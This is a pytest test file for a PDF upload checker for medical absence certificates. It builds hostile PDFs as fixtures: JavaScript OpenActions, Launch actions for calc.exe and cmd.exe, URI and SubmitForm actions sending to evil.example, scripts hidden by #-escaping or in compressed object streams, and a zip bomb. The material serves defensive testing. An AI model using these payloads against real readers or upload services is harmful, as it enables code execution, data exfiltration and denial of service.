"""The PDF inspection of absence certificates (storage/pdf_check.py): PDFs that could run code, launch a program, open
an address or carry a file are refused, also when the names are #-escaped or hidden in a compressed object stream;
PDFs whose object streams cannot be read through (another filter, damaged data, a zip bomb, encryption) are refused
as uninspectable; real certificates (fpdf2 text, a scanned image, compressed objects without actions) pass.
"""
from __future__ import annotations

import io
import random
import time
import zlib

import pytest
from fpdf import FPDF
from PIL import Image

from storage.pdf_check import ACTIVE, INFLATE_BUDGET, UNINSPECTABLE, pdf_problem
from storage.photos import MAX_UPLOAD_BYTES

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R /Size 9 >>") -> bytes:
    """A PDF file whose objects 1, 2, 3... are the given bodies, with its cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object body: its dictionary (with /Length added) and its data."""
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(*objects: bytes, filter_: bytes = b"/Filter /FlateDecode", data: bytes | None = None) -> bytes:
    """An object stream (PDF 1.5) holding the objects numbered 10, 11...: compressed, as producers write them."""
    header, bodies = b"", b""
    for number, body in enumerate(objects, start=10):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    content = header + bodies
    if data is None:
        data = zlib.compress(content) if b"FlateDecode" in filter_ else content
    return stream(b"/Type /ObjStm /N %d /First %d " % (len(objects), len(header)) + filter_, data)


def with_catalog(*extra: bytes) -> bytes:
    return pdf(CATALOG, PAGES, PAGE, *extra)


def fpdf2_certificate(image: bool = False) -> bytes:
    """A certificate as a doctor's software might make it: text (compressed), optionally a scanned image."""
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Certificat médical : l'enfant Léa MARTIN est malade du 7 au 9 décembre.")
    if image:
        buffer = io.BytesIO()
        random_pixels = random.Random(3).randbytes(200 * 150 * 3)  # noise: its compressed bytes are random too
        Image.frombytes("RGB", (200, 150), random_pixels).save(buffer, "PNG")
        document.image(buffer, x=10, y=30, w=80)
    return bytes(document.output())


# --- active content -----------------------------------------------------------------------------------------------

ACTIVE_PDFS = {
    "OpenAction JavaScript": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                                 PAGES, PAGE),
    "OpenAction JS only": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
                              b"<< /JS (this.exportDataObject({cName: 'x'})) >>"),
    "Launch": with_catalog(b"<< /Type /Annot /Subtype /Link /A << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >> >>"),
    "URI action": with_catalog(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://evil.example/) >> >>"),
    "embedded file": with_catalog(stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not a certificate")),
    "names tree of scripts": pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", PAGES, PAGE,
                                 b"<< /Names [(a) 5 0 R] >>"),
    "#-escaped names": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (x) >> >>",
                           PAGES, PAGE),
    "#-escaped short name": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Named /#4A#53 (x) >> >>",
                                PAGES, PAGE),
    "submit form": with_catalog(b"<< /S /SubmitForm /F (http://evil.example/collect) >>"),
    "XFA form": pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>", PAGES, PAGE, b"[]"),
    "JavaScript in a compressed object stream": with_catalog(
        object_stream(b"<< /S /JavaScript /JS (app.launchURL('http://evil.example')) >>")),
    "Launch in a compressed object stream": with_catalog(object_stream(b"<< /S /Launch /F (cmd.exe) >>")),
    "JS short name in a compressed object stream": with_catalog(object_stream(b"<< /S /Named /JS 12 0 R >>")),
    "script behind a comment that looks like a stream": with_catalog(
        b"%<< /Length 60 >>stream\n<< /S /JavaScript /JS (x) >>\n% endstream"),
    "script inside an uncompressed stream body": with_catalog(stream(b"", b"5 0 obj << /S /JavaScript >> endobj")),
}


@pytest.mark.parametrize("name", sorted(ACTIVE_PDFS))
def test_pdf_that_can_run_something_is_refused(name):
    assert pdf_problem(ACTIVE_PDFS[name]) == ACTIVE


# --- uninspectable ----------------------------------------------------------------------------------------------

def zip_bomb() -> bytes:
    """An object stream of a few KB that inflates past the budget."""
    compressor = zlib.compressobj(9)
    zeros = b"0" * 1_000_000
    data = b"".join(compressor.compress(zeros) for _ in range(INFLATE_BUDGET // len(zeros) + 2)) + compressor.flush()
    return with_catalog(object_stream(b"<< >>", data=data))


UNINSPECTABLE_PDFS = {
    "object stream in ASCII85": with_catalog(object_stream(b"<< /S /GoTo >>", filter_=b"/Filter /ASCII85Decode")),
    "object stream in two filters": with_catalog(
        object_stream(b"<< >>", filter_=b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    "object stream with a predictor": with_catalog(
        object_stream(b"<< >>", filter_=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")),
    "object stream with damaged data": with_catalog(object_stream(b"<< >>", data=b"x\x9c not deflate data at all")),
    "object stream cut short": with_catalog(object_stream(b"<< >>", data=zlib.compress(b"10 0 << >> " * 500)[:40])),
    "object stream over the inflate budget": zip_bomb(),
    "object stream whose dictionary hides in another stream": with_catalog(
        stream(b"", b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>")),
    "encrypted": pdf(CATALOG, PAGES, PAGE, trailer=b"<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>"),
    "stream never ended": with_catalog(b"<< /Length 5000 >>\nstream\n" + b"\0" * 100),
    "string never closed": with_catalog(b"<< /Title (no end >>"),
    "object stream containing a stream": with_catalog(
        object_stream(b"<< /Length 3 >>\nstream\nabc\nendstream")),
}


@pytest.mark.parametrize("name", sorted(UNINSPECTABLE_PDFS))
def test_pdf_that_cannot_be_read_through_is_refused(name):
    assert pdf_problem(UNINSPECTABLE_PDFS[name]) == UNINSPECTABLE


def test_too_many_tokens_is_uninspectable_and_quick():
    crowded = with_catalog(b"[" + b"1 " * (MAX_UPLOAD_BYTES // 2 - 100) + b"]")
    started = time.perf_counter()
    assert pdf_problem(crowded) == UNINSPECTABLE
    assert time.perf_counter() - started < 2.0


# --- real certificates ---------------------------------------------------------------------------------------------

PASSIVE_PDFS = {
    "the smallest PDF": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    "fpdf2 text": fpdf2_certificate(),
    "fpdf2 text and a scanned image": fpdf2_certificate(image=True),
    "compressed objects without actions": with_catalog(
        object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", b"<< /S /GoTo /D [3 0 R /Fit] >>")),
    "an OpenAction that only sets the first view": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
                                                       PAGES, PAGE),
    "image bytes that happen to contain /JS and /URI": with_catalog(
        stream(b"/Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceGray "
               b"/Filter /DCTDecode", b"\xff\xd8\xff\xe0 /JS (x) /URI (y) endobj \xff\xd9")),
    "a stream whose length is another object": with_catalog(
        b"<< /Length 5 0 R >>\nstream\nBT /F1 12 Tf (Bonjour) Tj ET\nendstream", b"30"),
    "strings with parentheses and escapes": with_catalog(b"<< /Title (Certificat \\(copie\\) (du m\\351decin)) >>"),
}


@pytest.mark.parametrize("name", sorted(PASSIVE_PDFS))
def test_real_certificates_pass(name):
    assert pdf_problem(PASSIVE_PDFS[name]) is None


def test_a_five_megabyte_scan_is_inspected_in_well_under_a_second():
    noise = random.Random(5).randbytes(MAX_UPLOAD_BYTES - 2000)
    scan = with_catalog(stream(b"/Type /XObject /Subtype /Image /Width 2000 /Height 2000 /BitsPerComponent 8 "
                               b"/ColorSpace /DeviceRGB /Filter /DCTDecode", noise))
    started = time.perf_counter()
    assert pdf_problem(scan) is None
    assert time.perf_counter() - started < 1.0
